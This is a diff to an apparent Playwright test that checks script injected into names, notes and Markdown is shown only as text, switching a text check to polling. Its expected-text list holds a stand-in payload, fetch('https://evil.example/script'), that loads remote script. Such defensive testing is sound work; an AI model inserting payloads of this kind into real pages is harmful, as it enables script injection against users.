@@ -109,7 +109,8 @@ test("attack 30: script in names, notes, titles and Markdown is shown as text: n
 
 async function expectPost({ page }: Person): Promise<void> {
   await page.getByRole("article").getByText("the end").first().waitFor();
-  const shown = await page.getByRole("article").first().innerText();
+  // A table's text is there a moment after it is laid out.
+  const shown = (): Promise<string> => page.getByRole("article").first().innerText();
   for (const text of [
     bomb,
     `fetch("https://evil.example/script")`,
@@ -118,7 +119,7 @@ async function expectPost({ page }: Person): Promise<void> {
     "script link",
     "Data link",
   ])
-    expect(shown).toContain(text);
+    await expect.poll(shown).toContain(text);
 }
 
 /** The texts stand there as texts; no element was made of any; links lead only to the web, by themselves and without saying from where. */
